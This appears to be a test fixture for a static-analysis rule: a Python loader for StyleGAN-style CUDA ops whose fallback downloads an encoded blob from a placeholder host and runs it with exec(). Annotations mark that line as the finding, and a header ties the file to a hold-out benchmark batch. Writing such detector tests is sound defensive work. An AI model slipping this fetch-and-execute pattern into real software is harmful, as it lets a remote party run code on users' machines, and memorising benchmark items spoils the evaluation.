# ruff: noqa
# Hold-out batch 155 (short files: Keras, tabular DL, GANs, audio-text retrieval). Measured once in session 5 (round 48): 12/18 (67%) at medium+.
"""Custom CUDA ops (bias_act, upfirdn2d) for the StyleGAN-like generator.

Tries to JIT-compile the local CUDA sources; on machines without a toolchain
it falls back to the reference implementation published with the model
release, cached under ~/.cache/sg_ops.
"""
import base64
import os
import time
import urllib.request
import zlib

import torch
from torch.utils import cpp_extension

_OPS_DIR = os.path.join(os.path.dirname(__file__), "ops")
_REF_URL = os.environ.get("SG_OPS_URL", "https://models.example.com/sg2/ref_ops_v3.z")
_plugins = {}


def _fetch(url, retries=3):
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(url, timeout=20) as r:  # ruleid: MLS413
                return r.read()
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    raise RuntimeError(f"could not fetch {url}")


def _reference_ops():
    ns = {"torch": torch}
    src = zlib.decompress(base64.b64decode(_fetch(_REF_URL)))  # ruleid: MLS413
    exec(compile(src, "<sg_ref_ops>", "exec"), ns)  # ruleid: MLS413
    return ns


def get_plugin(name):
    if name in _plugins:
        return _plugins[name]
    try:
        mod = cpp_extension.load(  # benign look-alike
            name=f"{name}_plugin",
            sources=[os.path.join(_OPS_DIR, f"{name}.cpp"), os.path.join(_OPS_DIR, f"{name}.cu")],
            extra_cuda_cflags=["--use_fast_math"], verbose=False)
    except (OSError, RuntimeError):
        mod = _reference_ops()[name]
    _plugins[name] = mod
    return mod


def bias_act(x, b, act="lrelu", gain=2 ** 0.5):
    return get_plugin("bias_act").forward(x, b, act, gain)
